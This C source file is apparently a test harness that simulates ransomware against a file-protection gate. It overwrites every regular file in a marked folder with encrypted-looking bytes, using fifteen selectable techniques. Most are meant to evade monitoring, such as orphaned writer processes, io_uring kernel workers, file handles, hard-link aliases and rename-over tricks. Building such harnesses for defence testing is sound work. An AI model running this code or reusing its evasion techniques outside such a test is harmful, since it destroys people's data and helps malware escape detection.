/* attacker.c - ways round a gate, for tests: overwrites the regular files of one folder with bytes
 * that look encrypted, each time by another way into a file. It works only in a folder that holds
 * the file named by MARK. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/io_uring.h>
#include <linux/openat2.h>
#include <pthread.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define MARK      "THIS-FOLDER-MAY-BE-DESTROYED"
#define FILES_MAX 8192
#define THREADS   16

static char *names[FILES_MAX];
static size_t name_count;
static int folder;
static const char *aside; /* a folder beside the guarded one */

static void fill(unsigned char *out, size_t size, uint64_t seed)
{
    uint64_t state = seed * 0x9e3779b97f4a7c15u + 0x1234567u;

    for (size_t i = 0; i < size; i++) {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        out[i] = (unsigned char)state;
    }
}

static bool overwrite(int fd, uint64_t seed)
{
    unsigned char block[4096];
    struct stat st;
    off_t size;

    if (fd < 0 || fstat(fd, &st) != 0)
        return false;
    size = st.st_size == 0 ? 4096 : st.st_size;
    for (off_t at = 0; at < size; at += (off_t)sizeof block) {
        size_t len = size - at < (off_t)sizeof block ? (size_t)(size - at) : sizeof block;

        fill(block, len, seed + (uint64_t)at);
        if (pwrite(fd, block, len, at) != (ssize_t)len)
            return false;
    }
    return close(fd) == 0;
}

static bool by_truncation(const char *name, uint64_t seed)
{
    return overwrite(openat(folder, name, O_WRONLY | O_TRUNC), seed);
}

static bool by_openat2(const char *name, uint64_t seed)
{
    struct open_how how = {.flags = O_RDWR, .resolve = RESOLVE_NO_SYMLINKS};

    return overwrite((int)syscall(SYS_openat2, folder, name, &how, sizeof how), seed);
}

static bool by_path_descriptor(const char *name, uint64_t seed)
{
    int fd = openat(folder, name, O_PATH);
    char again[64];

    snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
    return overwrite(open(again, O_RDWR), seed) && close(fd) == 0;
}

static bool by_handle(const char *name, uint64_t seed)
{
    _Alignas(struct file_handle) unsigned char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    struct file_handle *handle = (void *)room;
    int mount;

    handle->handle_bytes = MAX_HANDLE_SZ;
    if (name_to_handle_at(folder, name, handle, &mount, 0) != 0)
        return false;
    return overwrite(open_by_handle_at(folder, handle, O_RDWR), seed);
}

static bool by_alias(const char *name, uint64_t seed)
{
    char alias[PATH_MAX];
    bool done;

    snprintf(alias, sizeof alias, "%s/alias", aside);
    if (linkat(folder, name, AT_FDCWD, alias, 0) != 0)
        return false;
    done = overwrite(open(alias, O_RDWR), seed);
    return unlink(alias) == 0 && done;
}

static bool by_map(const char *name, uint64_t seed)
{
    int fd = openat(folder, name, O_RDWR);
    struct stat st;
    void *map;

    if (fd < 0 || fstat(fd, &st) != 0)
        return false;
    map = mmap(NULL, (size_t)st.st_size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    close(fd);
    if (map == MAP_FAILED)
        return false;
    fill(map, (size_t)st.st_size, seed);
    return munmap(map, (size_t)st.st_size) == 0;
}

static bool plainly(const char *name, uint64_t seed)
{
    return overwrite(openat(folder, name, O_RDWR), seed);
}

/* Only the beginning, by a process that does nothing else. */
static bool in_part(const char *name, uint64_t seed)
{
    unsigned char block[3000];
    pid_t pid = fork();
    int status;

    if (pid == 0) {
        int fd = openat(folder, name, O_WRONLY);

        fill(block, sizeof block, seed);
        _exit(fd >= 0 && write(fd, block, sizeof block) == (ssize_t)sizeof block ? 0 : 1);
    }
    return pid > 0 && waitpid(pid, &status, 0) == pid && status == 0;
}

/* The writer is nobody's child any more when it writes, and is gone right after. */
static bool by_orphan(const char *name, uint64_t seed)
{
    pid_t pid = fork();

    if (pid == 0) {
        if (fork() == 0)
            _exit(plainly(name, seed) ? 0 : 1);
        _exit(0);
    }
    return pid > 0 && waitpid(pid, NULL, 0) == pid && usleep(3000) == 0;
}

/* A writer over a file of its own that takes the old one's place: the old content has no event. */
static bool by_rename_over(const char *name, uint64_t seed)
{
    unsigned char block[4096];
    int fd = openat(folder, ".", O_TMPFILE | O_RDWR, 0644);
    char from[64], temporary[NAME_MAX + 1];

    fill(block, sizeof block, seed);
    snprintf(from, sizeof from, "/proc/self/fd/%d", fd);
    snprintf(temporary, sizeof temporary, "t%.200s", name);
    return fd >= 0 && write(fd, block, sizeof block) == (ssize_t)sizeof block &&
           linkat(AT_FDCWD, from, folder, temporary, AT_SYMLINK_FOLLOW) == 0 && close(fd) == 0 &&
           renameat(folder, temporary, folder, name) == 0;
}

/* io_uring without a library: one request at a time. */
static struct {
    int fd;
    unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
    struct io_uring_sqe *sqes;
    struct io_uring_cqe *cqes;
} ring;

static bool open_ring(void)
{
    struct io_uring_params p = {0};
    unsigned char *sq, *cq;

    ring.fd = (int)syscall(SYS_io_uring_setup, 8, &p);
    if (ring.fd < 0)
        return false;
    sq = mmap(NULL, p.sq_off.array + p.sq_entries * sizeof(unsigned), PROT_READ | PROT_WRITE,
              MAP_SHARED, ring.fd, IORING_OFF_SQ_RING);
    cq = mmap(NULL, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe),
              PROT_READ | PROT_WRITE, MAP_SHARED, ring.fd, IORING_OFF_CQ_RING);
    ring.sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
                     MAP_SHARED, ring.fd, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || ring.sqes == MAP_FAILED)
        return false;
    ring.sq_tail = (unsigned *)(void *)(sq + p.sq_off.tail);
    ring.sq_mask = (unsigned *)(void *)(sq + p.sq_off.ring_mask);
    ring.sq_array = (unsigned *)(void *)(sq + p.sq_off.array);
    ring.cq_head = (unsigned *)(void *)(cq + p.cq_off.head);
    ring.cq_tail = (unsigned *)(void *)(cq + p.cq_off.tail);
    ring.cq_mask = (unsigned *)(void *)(cq + p.cq_off.ring_mask);
    ring.cqes = (struct io_uring_cqe *)(void *)(cq + p.cq_off.cqes);
    return true;
}

static int ask_ring(const struct io_uring_sqe *request)
{
    unsigned tail = *ring.sq_tail, at = tail & *ring.sq_mask;
    int result;

    ring.sqes[at] = *request;
    ring.sqes[at].flags |= IOSQE_ASYNC; /* by a worker thread of the kernel */
    ring.sq_array[at] = at;
    __atomic_store_n(ring.sq_tail, tail + 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring.fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
        return -errno;
    result = ring.cqes[*ring.cq_head & *ring.cq_mask].res;
    __atomic_store_n(ring.cq_head, *ring.cq_head + 1, __ATOMIC_RELEASE);
    return result;
}

static bool by_ring(const char *name, uint64_t seed)
{
    static unsigned char block[65536];
    struct io_uring_sqe request = {.opcode = IORING_OP_OPENAT,
                                   .fd = folder,
                                   .addr = (uint64_t)(uintptr_t)name,
                                   .open_flags = O_RDWR};
    struct stat st;
    int fd;

    if (ring.sqes == NULL && !open_ring())
        return false;
    fd = ask_ring(&request);
    if (fd < 0 || fstat(fd, &st) != 0)
        return false;
    fill(block, sizeof block, seed);
    request = (struct io_uring_sqe){.opcode = IORING_OP_WRITE,
                                    .fd = fd,
                                    .addr = (uint64_t)(uintptr_t)block,
                                    .len = (unsigned)st.st_size};
    return ask_ring(&request) == (int)st.st_size && close(fd) == 0;
}

/* Each into a new deep folder first, and destroyed there. */
static bool in_new_folder(const char *name, uint64_t seed)
{
    char path[PATH_MAX];

    snprintf(path, sizeof path, "n%llu", (unsigned long long)seed);
    mkdirat(folder, path, 0755);
    for (int i = 0; i < 6; i++) {
        snprintf(path + strlen(path), 8, "/d%d", i);
        mkdirat(folder, path, 0755);
    }
    snprintf(path + strlen(path), NAME_MAX + 2, "/%.200s", name);
    return renameat(folder, name, folder, path) == 0 && plainly(path, seed);
}

/* Files move with their folder while they are written. */
static bool in_a_storm(const char *name, uint64_t seed)
{
    char old_dir[32], new_dir[32], path[NAME_MAX + 64];

    snprintf(old_dir, sizeof old_dir, "s%llu", (unsigned long long)seed);
    snprintf(new_dir, sizeof new_dir, "r%llu", (unsigned long long)seed);
    snprintf(path, sizeof path, "%s/%.200s", old_dir, name);
    mkdirat(folder, old_dir, 0755);
    usleep(20000);
    if (renameat(folder, name, folder, path) != 0)
        return false;
    for (int i = 0; i < 20; i++) {
        int fd = openat(folder, path, O_RDWR);

        if (renameat(folder, old_dir, folder, new_dir) != 0 || !overwrite(fd, seed) ||
            renameat(folder, new_dir, folder, old_dir) != 0)
            return false;
    }
    return true;
}

typedef bool attack_fn(const char *name, uint64_t seed);

static attack_fn *chosen;

static void *attack_share(void *context)
{
    for (size_t i = (size_t)(uintptr_t)context; i < name_count; i += THREADS)
        if (!chosen(names[i], i + 1))
            break;
    return NULL;
}

static void attack_by_threads(void)
{
    pthread_t threads[THREADS];

    for (size_t i = 0; i < THREADS; i++)
        if (pthread_create(&threads[i], NULL, attack_share, (void *)(uintptr_t)i) != 0)
            exit(2);
    for (size_t i = 0; i < THREADS; i++)
        pthread_join(threads[i], NULL);
}

static void attack_by_processes(void)
{
    for (size_t i = 0; i < 8; i++)
        if (fork() == 0) {
            for (size_t n = i; n < name_count; n += 8)
                if (!plainly(names[n], n + 1))
                    break;
            _exit(0);
        }
    while (wait(NULL) > 0) {
    }
}

static void attack_alone(bool pauses)
{
    for (size_t i = 0; i < name_count; i++) {
        if (!chosen(names[i], i + 1))
            return;
        if (pauses)
            raise(SIGSTOP); /* until somebody lets it go on */
        usleep(1000);
    }
}

static void collect(DIR *dir)
{
    for (struct dirent *e = readdir(dir); e != NULL; e = readdir(dir))
        if (e->d_type == DT_REG && strcmp(e->d_name, MARK) != 0 && name_count < FILES_MAX)
            names[name_count++] = strdup(e->d_name);
}

int main(int argc, char **argv)
{
    static const struct {
        const char *name;
        attack_fn *fn;
    } ways[] = {{"truncation", by_truncation},
                {"openat2", by_openat2},
                {"path-descriptor", by_path_descriptor},
                {"handle", by_handle},
                {"alias", by_alias},
                {"map", by_map},
                {"orphan", by_orphan},
                {"in-part", in_part},
                {"rename-over", by_rename_over},
                {"io_uring", by_ring},
                {"new-folder", in_new_folder},
                {"storm", in_a_storm},
                {"threads", plainly},
                {"processes", plainly},
                {"stops-itself", plainly}};
    DIR *dir = argc > 2 ? opendir(argv[1]) : NULL;

    for (size_t i = 0; dir != NULL && i < sizeof ways / sizeof *ways; i++)
        if (strcmp(argv[2], ways[i].name) == 0)
            chosen = ways[i].fn;
    if (chosen == NULL || faccessat(dirfd(dir), MARK, F_OK, 0) != 0) {
        fprintf(stderr, "usage: attacker FOLDER WAY [ASIDE]; FOLDER must hold " MARK "\n");
        return 2;
    }
    folder = dirfd(dir);
    aside = argc > 3 ? argv[3] : ".";
    collect(dir);
    if (strcmp(argv[2], "threads") == 0)
        attack_by_threads();
    else if (strcmp(argv[2], "processes") == 0)
        attack_by_processes();
    else
        attack_alone(strcmp(argv[2], "stops-itself") == 0);
    printf("ended\n");
    return 0;
}
